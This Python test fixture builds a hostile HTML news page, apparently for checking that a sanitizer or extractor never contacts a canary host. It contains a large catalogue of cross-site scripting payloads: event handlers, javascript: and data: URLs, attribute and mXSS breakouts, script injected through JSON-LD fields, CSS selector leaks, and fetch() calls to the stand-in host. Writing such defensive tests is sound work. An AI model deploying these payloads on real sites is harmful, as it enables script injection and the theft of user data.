"""A page that tries all that a page may try; none of it is to come of it."""

from __future__ import annotations

import json

PARAGRAPH = "The committee heard from nineteen witnesses about the new register, and the chair promised that every one of them would be answered in writing."


def page(canary: str) -> str:
    """`canary` is the host and port that no request may reach."""
    at = f"http://{canary}"
    body = "\n".join(f"<p onmouseover='owned()'>{PARAGRAPH} {n}.</p>" for n in range(5))
    data = json.dumps(
        {
            "@context": "https://schema.org", "@type": "NewsArticle",
            "headline": f"</title><script>fetch('{at}/headline')</script><img src={at}/h.png onerror=owned()>",
            "author": {"@type": "Person", "name": f"\"><img src='{at}/author.png' onerror=owned()>"},
            "datePublished": "2026-11-01T08:00:00Z",
        }
    )  # fmt: skip
    data = data.replace("</", "<\\/")
    return f"""<!doctype html><html lang='en" onload="owned()'><head>
<base href="{at}/base/"><meta http-equiv="refresh" content="0;url={at}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<title>A page that tries things</title>
<link rel="stylesheet" href="{at}/style.css"><link rel="icon" href="{at}/icon.png">
<link rel="preload" as="image" href="{at}/preload.png"><link rel="dns-prefetch" href="//{canary}">
<link rel="prefetch" href="{at}/prefetch"><link rel="manifest" href="{at}/manifest">
<style>@import url("{at}/import.css"); body {{ background: url({at}/body.png) }}
@font-face {{ font-family: x; src: url({at}/font.woff) }} p {{ font-family: x }}
input[value^="a"] {{ background-image: url({at}/leak-a) }} [data-entry^="1"] {{ background: url({at}/leak-entry) }}
html:has(.kept) {{ --x: image-set(url({at}/has)) ; background: var(--x) }}</style>
<script>window.owned = () => fetch("{at}/owned"); owned(); parent.owned = 1;</script>
<script src="{at}/script.js"></script><script type="module" src="{at}/module.js"></script>
<script type="application/ld+json">{data}</script>
</head><body onload="owned()" onpageshow="owned()" background="{at}/background.png" style="background: url({at}/inline.png)">
<nav><a href="javascript:owned()" id="js">Home</a> <a href="JaVa&#x09;Script:owned()">News</a>
<a href="data:text/html,<script>owned()</script>">Data</a> <a href="{at}/ping" ping="{at}/pinged" id="away" target="_top">Away</a></nav>
<main><article><h1>A page that tries things</h1>
{body}
<p style="background: url({at}/p.png)" class="kept" data-entry="0" id="read">Styled {PARAGRAPH}</p>
<p><img src="{at}/img.png" srcset="{at}/img2.png 2x" onerror="owned()" alt="&lt;script&gt;owned()&lt;/script&gt; \" onload=owned() x=\"">{PARAGRAPH} Pictured.</p>
<p>&lt;img src=x onerror=owned()&gt; &lt;script&gt;owned()&lt;/script&gt; {PARAGRAPH} As text.</p>
<p title='"><script>owned()</script>'>{PARAGRAPH} Titled.</p>
<svg onload="owned()"><script>owned()</script><image href="{at}/svg.png"/><use href="{at}/use.svg#x"/>
<style>@import "{at}/svg.css";</style><foreignObject><img src="{at}/foreign.png"></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={at}/mxss onerror=owned()&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src={at}/noscript.png onerror=owned()>"></noscript>
<template><img src="{at}/template.png" onerror="owned()"></template>
<iframe src="{at}/frame" srcdoc="<script>parent.owned()</script>"></iframe>
<object data="{at}/object"><param name="src" value="{at}/param"></object><embed src="{at}/embed"><applet code="{at}/applet"></applet>
<video src="{at}/video" poster="{at}/poster.png" autoplay></video><audio src="{at}/audio" autoplay></audio>
<picture><source srcset="{at}/source.png"><img src="{at}/picture.png"></picture><input type="image" src="{at}/input.png" autofocus onfocus="owned()">
<form action="{at}/form" id="f"><input name="a" value="a"><button id="send" formaction="javascript:owned()">Send</button></form>
<details open ontoggle="owned()"><summary>More</summary>{PARAGRAPH}</details><marquee onstart="owned()">x</marquee>
<xss onclick="owned()" style="animation: x 1s" onanimationstart="owned()">{PARAGRAPH}</xss>
<table background="{at}/table.png"><tr><td background="{at}/td.png" colspan="2&quot; onclick=owned()">One</td><td>Two</td></tr></table>
<p lang='en" onclick="owned()' dir='ltr" onclick="owned()'>{PARAGRAPH} Attributed.</p>
<a xlink:href="{at}/xlink" href=" &#1; javascript:owned()">{PARAGRAPH}</a>
<frameset onload="owned()"><frame src="{at}/frame2"></frameset>
<plaintext>{PARAGRAPH} <script>owned()</script>
</article></main></body></html>"""
